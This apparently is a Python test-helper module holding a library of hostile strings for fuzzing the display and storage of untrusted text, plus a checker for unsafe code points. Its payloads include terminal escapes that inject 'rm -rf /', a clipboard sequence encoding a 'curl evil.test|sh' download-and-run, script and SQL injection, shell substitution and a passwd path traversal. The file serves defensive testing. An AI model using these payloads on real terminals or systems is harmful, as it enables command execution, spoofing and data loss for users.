"""Texts that must never break anything, and what "harmless" means. For every test that shows or stores foreign text."""

from __future__ import annotations

import json
import os
import unicodedata
from pathlib import Path

from hypothesis import strategies as st

ESC, BEL, ST, C1_ST = "\x1b", "\x07", "\x1b\\", "\x9c"

PAYLOADS: dict[str, str] = {
    # colours, cursor, screen
    "csi colour": f"red {ESC}[31malert{ESC}[0m",
    "csi clear and home": f"before{ESC}[2J{ESC}[Hsession expired, password:",
    "csi long colour": f"x{ESC}[38;2;255;0;0;48;5;17;1;4mx",
    "csi cut off": f"tail{ESC}[12;3",
    "csi split by newline": f"a{ESC}[\n31mb",
    "csi scroll region": f"a{ESC}[1;1r{ESC}[999;999Hb",
    "csi cursor up and erase": f"one\ntwo{ESC}[1A{ESC}[2Kforged line",
    "alternate screen off": f"a{ESC}[?1049l$ rm -rf /",
    "mouse on": f"a{ESC}[?1003h{ESC}[?1006hb",
    "bracketed paste end": f"a{ESC}[201~rm -rf /\n{ESC}[200~b",
    "reset": f"a{ESC}cb",
    "charset": f"a{ESC}(0lqqk{ESC}(Bb",
    "screen alignment": f"a{ESC}#8b",
    "lone escape": f"a{ESC}",
    "many escapes": ESC * 400 + "x",
    # what a terminal answers by typing
    "device attributes": f"a{ESC}[cb{ESC}[>cc{ESC}[=cd",
    "status report": f"a{ESC}[5n{ESC}[6nb",
    "window size report": f"a{ESC}[18t{ESC}[21tb",
    "answerback": "a\x05b",
    "terminfo query": f"a{ESC}P+q544e{ST}b",
    "settings query": f"a{ESC}P$qm{ST}b",
    # string sequences
    "title, bell": f"a{ESC}]0;root@bank: ~{BEL}b",
    "title, st": f"a{ESC}]2;root@bank: ~{ST}b",
    "title, never ended": f"a{ESC}]0;the rest of the post must stay",
    "clipboard": f"a{ESC}]52;c;Y3VybCBldmlsLnRlc3R8c2g={BEL}b",
    "hyperlink": f"see {ESC}]8;;https://evil.test/{ST}your bank{ESC}]8;;{ST}",
    "notification": f"a{ESC}]777;notify;Bank;Log in again{BEL}b",
    "dcs": f"a{ESC}P1;1|17/ab{ST}b",
    "apc": f"a{ESC}_Gf=100;AAAA{ST}b",
    "pm": f"a{ESC}^quiet{ST}b",
    "sos": f"a{ESC}Xquiet{ST}b",
    "nested osc": f"a{ESC}]0;{ESC}]52;c;AAAA{BEL}{BEL}b",
    "tmux passthrough": f"a{ESC}Ptmux;{ESC}{ESC}]52;c;AAAA{BEL}{ST}b",
    # C1
    "c1 csi": "a\x9b31mb",
    "c1 osc": f"a\x9d0;title{C1_ST}b",
    "c1 dcs": f"a\x90$qm{C1_ST}b",
    "c1 in windows-1252": "caf\xe9 \x93quoted\x94 \x96 it\x92s",
    # other controls
    "nul": "a\x00b",
    "bell and backspace": "harmless\b\b\b\b\b\b\b\bevil\x07",
    "carriage return": "you owe 10\rYou owe 10000",
    "vertical tab, form feed": "a\x0bb\x0cc",
    "shift out": "a\x0elqk\x0fb",
    "delete": "a\x7fb",
    "line separators": "a\u2028b\u2029c\x85d",
    # invisible and reordering
    "bidi override": "pay \u202e001$ ot\u202c now",
    "bidi isolates": "if access \u2066admin\u2069 \u2067x\u2069 \u2068y",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "zero width": "pay\u200bpal\u2060\ufeff\u00ad\u180e.example",
    "tags": "hello\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "tag flag": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f won",
    "variation smuggling": "ok" + "".join(chr(0xE0100 + n) for n in range(60)),
    "fillers": "a\u3164\u115f\u1160\uffa0\u034fb",
    "interlinear": "a\ufff9b\ufffac\ufffbd",
    # not characters
    "lone surrogates": "a\ud800b\udfffc",
    "surrogate pair in parts": "a\ud83d\ude00b",
    "private use": "a\ue000b\uf8ffc\U000f0000d",
    "noncharacters": "a\ufffeb\uffffc\U0010ffffd",
    "unassigned": "a\u0378b\U000e0fffc",
    # size
    "zalgo": "A" + "\u0301\u0334\u0489" * 3_400 + "B",
    "marks first": "\u0301\u0302\u0303x",
    "marks on spaces": "a \u0301b\t\u0302c\n\u0303d",
    "one long word": "w" * 70_000,
    "long lines": ("line " * 400 + "\n") * 40,
    "ten thousand lines": "\n" * 10_000,
    # markup of the screen's own libraries
    "markup style": "[bold red]PAY NOW[/bold red]",
    "markup link": "[link=https://evil.test/]your bank[/link]",
    "markup action": "[@click=app.quit]click me[/]",
    "markup unbalanced": "list[0] [/] [/usr/bin] and [b",
    "markup escape": "\\[bold]x\\\\[/]",
    "emoji code": ":warning: :smile:",
    "markdown link": "[your bank](https://evil.test/) ![x](https://evil.test/i.png)",
    # for other languages than the terminal's
    "entities": "&#27;[31m &lt;b&gt; &amp;#27; &#x202e;abc",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "sql": "'; DROP TABLE mention; --",
    "like wildcards": "100% _sure_ \\%",
    "fts": 'NEAR( "a* OR b) AND -c:',
    "format": "{0} {name} %s %(x)d ${HOME} $(id) `id`",
    "csv formula": '=HYPERLINK("https://evil.test";"x"),@SUM(A1),+1,-1',
    "path": "../../../../etc/passwd\\..\\..",
    # scripts and emoji that must survive
    "emoji family": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308",
    "emoji signs": "1\ufe0f\u20e3 \u2764\ufe0f \U0001f1f7\U0001f1f4",
    "joiners alone": "a\u200db \U0001f468\u200d \u200d\U0001f469 x\ufe0f",
    "persian": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "hindi": "\u0915\u094d\u200d\u0937 \u0915\u094d\u0937\u0924\u094d\u0930\u093f\u092f",
    "arabic and hebrew": "\u0627\u0644\u062e\u062f\u0645\u0629 \u05e9\u05dc\u05d5\u05dd 123",
    "wide": "\u58ca\u308c\u307e\u3057\u305f\u3000\uff21\uff22\uff23 \ud55c\uad6d\uc5b4",
    "decomposed": "Ma\u0306i baiet\u0326i, Vie\u0323\u0302t Nam",
}
if _more := os.environ.get("EARFUL_HOSTILE"):  # a file of further ones: [{"name": ..., "text": ...}]
    PAYLOADS |= {each["name"]: each["text"] for each in json.loads(Path(_more).read_text(encoding="utf-8"))}

_PIECES = [
    *(text for text in PAYLOADS.values() if len(text) < 200),
    ESC,
    ESC + "[",
    ESC + "]",
    ST,
    BEL,
    "\x9b",
    "\x9d",
    "\u200d",
    "\u200c",
    "\ufe0f",
    "\u20e3",
    "\u0301",
    "\u094d",
    "\u0937",
    "\U0001f469",
    "\u2764",
    "\ufffd",
    " ",
    "\n",
    "\r",
    "1",
    "a",
]


def hostile_text(max_pieces: int = 12) -> st.SearchStrategy[str]:
    """Any characters, surrogates too, mixed with pieces of the payloads."""
    piece = st.one_of(st.sampled_from(_PIECES), st.characters(), st.text(max_size=8))
    return st.lists(piece, max_size=max_pieces).map("".join)


def harm_in(text: str) -> list[str]:
    """The code points of `text` that must never reach a screen, decided by Unicode's own categories."""
    found = []
    for index, char in enumerate(text):
        category = unicodedata.category(char)
        if char in "\n\t" or category[0] not in "CZ" or char == " ":
            continue
        before, after = text[index - 1 : index], text[index + 1 : index + 2]
        if char == "\u200d" and _joined(before, after):
            continue
        if char == "\u200c" and before > "\u0600" and after > "\u0600":
            continue
        if category == "Cn" and "\U0001f000" <= char <= "\U0001faff":
            continue
        found.append(f"U+{ord(char):04X} at {index}")
    return found


def _joined(before: str, after: str) -> bool:
    return bool(before and after) and not (before + after).isascii() and not (before + after).isspace()
